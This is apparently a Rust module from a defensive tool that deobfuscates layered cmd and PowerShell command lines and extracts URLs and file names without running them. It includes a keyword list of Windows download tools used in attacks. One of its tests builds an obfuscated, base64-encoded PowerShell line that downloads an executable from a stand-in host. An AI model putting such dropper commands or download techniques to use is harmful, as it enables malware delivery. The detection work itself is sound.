//! Command lines, taken apart as the shells would: what `cmd` makes of its variables, what PowerShell
//! makes of its strings, and what stands encoded in either. Nothing is run; what is not known stays as it is.
//!
//! [`reveal`] goes through the layers with a work list: each line that [`cmd`] arrives at, each text
//! that [`powershell`] or [`encoded`] find, is looked at again.

pub mod address;
pub mod cmd;
pub mod encoded;
pub mod library;
pub mod powershell;
pub mod program;

/// Layers that are looked at: a dropper has two to five within each other.
const MAX_LAYERS: usize = 24;
/// Octets of all layers; Windows takes command lines of 32 KiB, scripts are a few times longer.
const MAX_OCTETS: usize = 1 << 20;
/// Addresses that are kept: a dropper has five to ten.
const MAX_ADDRESSES: usize = 64;

/// What a command line comes to.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Revealed {
    /// The command lines and scripts within, the outermost first, that one not included.
    pub commands: Vec<String>,
    /// Addresses on the web.
    pub urls: Vec<String>,
    /// Names of files that are written or run.
    pub files: Vec<String>,
    /// Whether a limit ended the search.
    pub is_cut: bool,
}

/// Takes a command line apart, layer by layer.
pub fn reveal(line: &str) -> Revealed {
    let mut revealed = Revealed::default();
    let mut seen: Vec<String> = vec![line.to_owned()];
    let mut at = 0_usize;
    let mut octets = line.len();
    while let Some(layer) = seen.get(at).cloned() {
        at = at.saturating_add(1);
        let mut inner = Vec::new();
        let lines = cmd::lines(&layer);
        revealed.is_cut |= lines.is_cut;
        // An address that a variable still stands in is none.
        if lines.found.is_empty() {
            look(&layer, &mut inner, &mut revealed);
        }
        inner.extend(lines.found);
        for text in inner {
            octets = octets.saturating_add(text.len());
            if seen.len() >= MAX_LAYERS || octets > MAX_OCTETS {
                revealed.is_cut = true;
            } else if !seen.contains(&text) {
                seen.push(text);
            }
        }
    }
    revealed.commands = seen.split_off(1);
    revealed
}

/// What a layer holds: addresses, files, scripts, and what is encoded in them.
fn look(layer: &str, inner: &mut Vec<String>, revealed: &mut Revealed) {
    let plain = powershell::folded(layer);
    revealed.is_cut |= plain.is_cut;
    let text = plain.text.as_deref().unwrap_or(layer);
    for url in plain.strings.iter().flat_map(|string| address::urls(string)).chain(address::urls(text)) {
        keep(&mut revealed.urls, url, &mut revealed.is_cut);
    }
    for name in plain.strings.iter().filter_map(|string| address::file(string)).chain(address::files(text)) {
        keep(&mut revealed.files, name, &mut revealed.is_cut);
    }
    inner.extend(encoded::texts(text));
    inner.extend(plain.scripts);
    inner.extend(plain.text);
}

/// Whether a command fetches something from the network, by the names of what does.
pub fn fetches(line: &str) -> bool {
    const NAMES: &[&str] = &[
        "downloadfile",
        "downloadstring",
        "downloaddata",
        "webclient",
        "invoke-webrequest",
        "iwr ",
        "curl",
        "wget",
        "invoke-restmethod",
        "irm ",
        "start-bitstransfer",
        "bitsadmin",
        "urlcache",
        "mshta",
        "regsvr32",
        "msiexec",
        "xmlhttp",
        "winhttp",
        "openread",
        "urldownloadtofile",
        "httpclient",
        "rundll32",
    ];
    let line = line.to_ascii_lowercase();
    NAMES.iter().any(|name| line.contains(name))
}

fn keep(list: &mut Vec<String>, text: &str, is_cut: &mut bool) {
    if list.iter().any(|known| known == text) {
        return;
    }
    if list.len() < MAX_ADDRESSES {
        list.push(text.to_owned());
    } else {
        *is_cut = true;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_script_within_a_command_within_a_command() {
        let script = "(New-Object Net.WebClient).DownloadFile('http://a.example/x.exe','C:\\x\\y.exe')";
        let octets: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let line = format!("cmd /c c^m^d /c \"powershell -nop -eNC {}\"", data_encoding::BASE64.encode(&octets));
        let revealed = reveal(&line);
        assert_eq!(revealed.urls, ["http://a.example/x.exe"]);
        assert!(revealed.commands.iter().any(|command| command == script), "{revealed:?}");
        assert!(revealed.files.contains(&"C:\\x\\y.exe".to_owned()), "{revealed:?}");
        assert!(!revealed.is_cut);
    }

    #[test]
    fn plain_words_reveal_nothing() {
        for line in ["", "notepad a.txt", "the shell of an egg", "100 % sure !now!"] {
            assert_eq!(reveal(line), Revealed::default(), "{line}");
        }
        // What it runs is told.
        let files = vec!["notepad.exe".to_owned()];
        assert_eq!(reveal("notepad.exe C:\\a.txt"), Revealed { files, ..Revealed::default() });
    }

    #[test]
    fn the_layers_are_bounded_and_a_cut_is_told() {
        let line = format!("cmd /c {}calc.exe", "cmd /c call cmd /v:on /c ".repeat(500));
        assert!(reveal(&line).is_cut);
        let line = format!("powershell $a='{}'", "http://a.example/ ".repeat(3));
        assert_eq!(reveal(&line).urls.len(), 1);
        let many: Vec<String> = (0..100).map(|n| format!("http://{n}.example/")).collect();
        let revealed = reveal(&format!("powershell $a='{}'", many.join("@")));
        assert_eq!((revealed.urls.len(), revealed.is_cut), (MAX_ADDRESSES, true));
    }
}
